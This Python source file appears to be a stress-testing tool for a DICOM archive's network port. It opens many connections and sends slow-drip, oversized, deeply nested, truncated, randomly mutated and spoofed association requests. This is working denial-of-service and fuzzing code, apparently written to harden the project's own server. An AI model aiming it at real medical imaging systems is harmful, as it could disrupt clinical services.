# SPDX-License-Identifier: GPL-3.0-or-later
"""Attacks the DICOM door of an archive with requests that are slow, endless, nested, half, changed or none at all.

A program of its own, with nothing but the standard library, so that it can run where its peer is:
``python attack.py '{"host": "192.0.2.1", "port": 11112, "connections": 100, "seconds": 10, "seed": 1, ...}'``.
It prints how often each attack was made.
"""

from __future__ import annotations

import asyncio
import json
import random
import ssl
import struct
import sys
import time
from collections import Counter
from collections.abc import AsyncIterator, Callable
from contextlib import suppress
from dataclasses import dataclass, field

LONGEST = 128 * 1024


def item(kind: int, content: bytes) -> bytes:
    return struct.pack(">BxH", kind, len(content)) + content


def request(called: str, calling: str, items: bytes) -> bytes:
    """An A-ASSOCIATE-RQ (PS3.8 section 9.3.2) with these items."""
    titles = called.ljust(16).encode() + calling.ljust(16).encode()
    body = struct.pack(">H2x", 1) + titles + bytes(32) + items
    return struct.pack(">BxI", 1, len(body)) + body


APPLICATION = item(0x10, b"1.2.840.10008.3.1.1.1")
SYNTAXES = item(0x30, b"1.2.840.10008.1.1") + item(0x40, b"1.2.840.10008.1.2")
CONTEXT = item(0x20, bytes([1, 0, 0, 0]) + SYNTAXES)
USER = item(0x50, item(0x51, struct.pack(">I", 16384)) + item(0x52, b"1.2.3.4") + item(0x55, b"ATTACK"))


def nested() -> bytes:
    """A presentation context in a presentation context, and so on, as deep as a length of two bytes allows."""
    content = SYNTAXES
    while len(content) < 0xFFF0 - 8:
        content = item(0x20, bytes([1, 0, 0, 0]) + content)
    return content


def changed(whole: bytes, chance: random.Random) -> bytes:
    """The same with some bytes changed, removed, or there twice; the length in the header is right half of the time."""
    data = bytearray(whole)
    for _each in range(chance.randint(1, 8)):
        place = chance.randrange(len(data))
        match chance.randrange(4):
            case 0:
                data[place] = chance.randrange(256)
            case 1:
                del data[place : place + chance.randint(1, 40)]
            case 2:
                data[place:place] = data[place : place + chance.randint(1, 40)]
            case 3:
                data[place : place + 2] = chance.choice([b"\xff\xff", b"\x00\x00", b"\x7f\xff"])
        data = data or bytearray(b"\x01")
    if chance.random() < 0.5 and len(data) > 6:
        data[:6] = struct.pack(">BxI", 1, len(data) - 6)
    return bytes(data)


@dataclass
class Attacker:
    """One of many that do the same.

    :ivar calling: an AE title that is let in
    """

    host: str
    port: int
    called: str
    calling: str
    seconds: float
    certificate: str = ""
    key: str = ""
    handshake: bool = False
    made: Counter[str] = field(default_factory=Counter)

    def __post_init__(self) -> None:
        self.end = time.monotonic() + self.seconds
        self.whole = request(self.called, self.calling, APPLICATION + CONTEXT + USER)
        self.context = None
        if self.handshake:
            self.context = ssl.create_default_context()
            self.context.check_hostname, self.context.verify_mode = False, ssl.CERT_NONE
            if self.certificate:
                self.context.load_cert_chain(self.certificate, self.key)

    def slow(self, _chance: random.Random) -> AsyncIterator[bytes]:
        return self.drip(self.whole[:-1])

    async def drip(self, data: bytes) -> AsyncIterator[bytes]:
        for byte in data:
            yield bytes([byte])
            await asyncio.sleep(0.03)

    async def endless(self, _chance: random.Random) -> AsyncIterator[bytes]:
        """Claims to be as long as it may be, and comes in many small pieces."""
        yield struct.pack(">BxI", 1, LONGEST - 6) + self.whole[6:]
        for _each in range(LONGEST // 64):
            yield CONTEXT[:32] * 2
            await asyncio.sleep(0)

    async def longest(self, _chance: random.Random) -> AsyncIterator[bytes]:
        """As many items as fit, as fast as they can be sent."""
        yield request(self.called, self.calling, item(0x40, b"") * ((LONGEST - 6 - 68 - 6) // 4))

    async def nested(self, _chance: random.Random) -> AsyncIterator[bytes]:
        yield request(self.called, self.calling, APPLICATION + nested() + USER)

    async def half(self, chance: random.Random) -> AsyncIterator[bytes]:
        yield self.whole[: chance.randrange(len(self.whole))]

    async def noise(self, chance: random.Random) -> AsyncIterator[bytes]:
        yield chance.randbytes(chance.randint(1, 2000))

    async def mutant(self, chance: random.Random) -> AsyncIterator[bytes]:
        yield changed(self.whole, chance)

    async def spoof(self, chance: random.Random) -> AsyncIterator[bytes]:
        yield request(self.called, chance.choice(["NOBODY", "__proto__", "constructor", "A\\B"]), CONTEXT)

    async def attack(self, chance: random.Random) -> None:
        """One attack after the other, until it is over."""
        kinds: list[Callable[[random.Random], AsyncIterator[bytes]]] = [
            self.slow, self.endless, self.longest, self.nested, self.half, self.noise, self.mutant, self.spoof,
        ]  # fmt: skip
        while (left := self.end - time.monotonic()) > 0:
            kind = chance.choice(kinds)
            self.made[kind.__name__] += 1
            with suppress(OSError, asyncio.TimeoutError, ssl.SSLError):
                await asyncio.wait_for(self.connection(kind(chance)), min(left, 15))
            await asyncio.sleep(0.01)

    async def connection(self, pieces: AsyncIterator[bytes]) -> None:
        reader, writer = await asyncio.open_connection(self.host, self.port, ssl=self.context)
        try:
            async for piece in pieces:
                writer.write(piece)
                await writer.drain()
            await reader.read()
        finally:
            writer.transport.abort()


async def main(connections: int, seed: int, **options: object) -> Counter[str]:
    attacker = Attacker(**options)
    await asyncio.gather(*(attacker.attack(random.Random(seed + number)) for number in range(connections)))
    return attacker.made


if __name__ == "__main__":
    print(json.dumps(asyncio.run(main(**json.loads(sys.argv[1])))))
